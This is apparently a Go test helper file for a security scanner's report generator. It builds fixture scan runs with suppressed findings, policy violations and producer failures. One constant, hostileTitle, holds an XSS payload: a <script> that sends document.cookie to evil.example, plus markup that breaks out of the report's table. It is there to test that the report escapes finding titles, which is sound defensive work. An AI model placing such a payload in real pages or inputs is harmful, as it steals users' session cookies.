package report

import (
	"fmt"
	"testing"
	"time"

	"github.com/draconsec/dracon/internal/config"
	"github.com/draconsec/dracon/internal/consumers"
	"github.com/draconsec/dracon/internal/consumers/consumertest"
	"github.com/draconsec/dracon/internal/policy"
	"github.com/draconsec/dracon/internal/summary"
	v1 "github.com/draconsec/dracon/proto/dracon/v1"
	"google.golang.org/protobuf/proto"
)

// generated is the fixed generation time of every test report.
var generated = time.Date(2026, 12, 1, 10, 5, 0, 0, time.UTC)

// hostileTitle is what a scanned repository can make a finding's title
// say: markup that would run, fetch or restyle the page if it were not
// escaped.
const hostileTitle = `Hardcoded key </td></tr></table><script>fetch("https://evil.example/x?"+document.cookie)</script><img src=https://evil.example/p.png><style>body{display:none}</style>`

// auditRun is consumertest.Run as a pull request's run with everything
// an auditor's report shows: the bundled policies' decision with deny
// and warn messages, a producer that failed and one skipped, suppressed
// findings (one a false positive with no reason), a merged duplicate, a
// baseline, and a finding whose title is markup.
func auditRun(t testing.TB) *consumers.Run {
	t.Helper()
	run := consumertest.Run(t)
	all := consumers.Flatten(run.Results)
	byID := map[string]*v1.EnrichedIssue{}
	for _, f := range all {
		byID[f.Issue.GetFindingId()] = f.Issue
	}
	// gosec's G204 on main.go:11: accepted as a risk by a triager, with
	// a reason.
	sup := byID["f0002"]
	sup.Suppressed, sup.Status = true, "accepted_risk"
	sup.SuppressionReason = "the command is a constant list of git arguments (SEC-1234)"
	// trivy's AWS-0087: marked a false positive, with no reason recorded.
	fp := byID["f0008"]
	fp.FalsePositive, fp.Status = true, "false_positive"
	// gitleaks' GitHub token is also trivy's: gitleaks' report is merged
	// into trivy's (counted once, not listed).
	byID["f0016"].DuplicateOf = byID["f0015"].GetHash()
	byID["f0015"].SeenBy = []string{"trivy", "gitleaks"}
	byID["f0004"].RawIssue.Title = hostileTitle
	run.Summary.Counts = summary.Count(run.Results)
	run.Summary.Counts.Fixed = len(run.Fixed)
	run.Summary.Reasons = []string{
		"settings.py:3 holds an AWS access key: a secret must not be committed [dracon.builtin.secrets.deny] settings.py:3",
		"3 new high findings [dracon.builtin.pull_request.deny] (3 findings)",
		"producer semgrep failed: exit status 2: invalid rule file .semgrep.yml",
	}
	run.Summary.ExitCode = 2
	run.Summary.Baseline = &summary.Baseline{Kind: "branch", Ref: "refs/heads/main", ScanID: "5b1d0c8e-2f0a-4e55-9c3d-6a1f2e3d4c5b",
		Commit: "fedcba9876543210fedcba9876543210fedcba98", DiffFilter: "added", DiffBase: "origin/main"}
	var highs []policy.FindingRef
	for _, f := range all {
		is := f.Issue
		if consumers.PolicyResult(is) == "deny" {
			highs = append(highs, policy.FindingRef{ID: is.GetFindingId(), Tool: f.Tool, Rule: is.GetRawIssue().GetRuleId(),
				Severity: "HIGH", Path: is.GetRawIssue().GetLocation().GetPath(), Line: int(is.GetRawIssue().GetLocation().GetStartLine())})
		}
	}
	run.Summary.Policy = &summary.Policy{
		Revision: "main@fedcba9876543210fedcba9876543210fedcba98",
		Policies: []policy.Loaded{
			{Package: "dracon.builtin.pull_request", Files: []string{"builtin:default/pull_request.rego", "builtin:default/lib.rego"}, Kind: "finding", RegoVersion: "v1", SHA256: "3f2a9c0d1e4b5a6978e0f1d2c3b4a59687766554433221100ffeeddccbbaa998"},
			{Package: "dracon.builtin.secrets", Files: []string{"builtin:default/secrets.rego"}, Kind: "finding", RegoVersion: "v1", SHA256: "0a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f9"},
			{Package: "acme.licences", Files: []string{"main@fedcba9876543210fedcba9876543210fedcba98:policies/licences.rego"}, Kind: "run", RegoVersion: "v0", SHA256: "ffeeddccbbaa99887766554433221100ffeeddccbbaa99887766554433221100"},
		},
		Deny: []summary.Violation{
			{Rule: "data.dracon.builtin.secrets.deny", Message: "settings.py:3 holds an AWS access key: a secret must not be committed",
				File: "builtin:default/secrets.rego", Findings: []policy.FindingRef{{ID: "f0017", Tool: "gitleaks", Rule: "aws-access-token", Severity: "HIGH", Path: "settings.py", Line: 3}}},
			{Rule: "data.dracon.builtin.pull_request.deny", Message: "3 new high findings", File: "builtin:default/pull_request.rego", Findings: highs},
		},
		Warn: []summary.Violation{
			{Rule: "data.dracon.builtin.exceptions.warn", Message: `data.dracon.exceptions[1] (rule "DS-0002"), owned by @acme/platform, expired on 2026-06-30 and no longer exempts its 1 finding(s): fix them or renew the exception`,
				File: "builtin:default/exceptions.rego", Findings: []policy.FindingRef{{ID: "f0005", Tool: "trivy", Rule: "DS-0002", Severity: "HIGH", Path: "Dockerfile"}}},
		},
		Errors: []string{"acme.licences: syft f0018: licence list is not an array"},
	}
	run.Summary.Producers = append(run.Summary.Producers,
		summary.Producer{Name: "semgrep", Status: "failed", Reason: "exit status 2: invalid rule file .semgrep.yml", DurationSeconds: 3.4, ToolVersion: "1.140.0"},
		summary.Producer{Name: "bandit", Status: "skipped", Reason: "no Python files"},
	)
	run.Summary.Producers[0].Vendored = &summary.Vendored{SkippedFiles: 12, DroppedFindings: 3, List: "gosec.vendored.txt"}
	return run
}

// auditExceptions are the config's policy exceptions: one in force, one
// expired before the report was generated.
var auditExceptions = []config.Exception{
	{Rule: "G104", Path: "legacy/**", Owner: "@acme/platform", Reason: "errors of Close are not checked in legacy code", Expires: "2027-03-31"},
	{Rule: "DS-0002", Owner: "@acme/platform", Reason: "the base image sets its own user", Expires: "2026-06-30"},
}

// largeRun is a run of n findings: consumertest.Run's, repeated with
// new ids, paths and lines, as a monorepo's first scan might report.
func largeRun(t testing.TB, n int) *consumers.Run {
	t.Helper()
	run := consumertest.Run(t)
	total := len(consumers.Flatten(run.Results))
	id := total
	for _, r := range run.Results {
		base := r.Issues
		for i := len(base); i < n*len(base)/total; i++ {
			is := proto.Clone(base[i%len(base)]).(*v1.EnrichedIssue)
			id++
			is.FindingId = fmt.Sprintf("f%05d", id)
			if loc := is.RawIssue.GetLocation(); loc != nil {
				loc.Path = fmt.Sprintf("services/svc%03d/%s", i%250, loc.GetPath())
				loc.StartLine = int32(1 + i%900)
				is.RawIssue.Target = fmt.Sprintf("%s:%d", loc.Path, loc.StartLine)
			}
			is.IsNew = i%3 == 0
			r.Issues = append(r.Issues, is)
		}
	}
	run.Summary.Counts = summary.Count(run.Results)
	return run
}
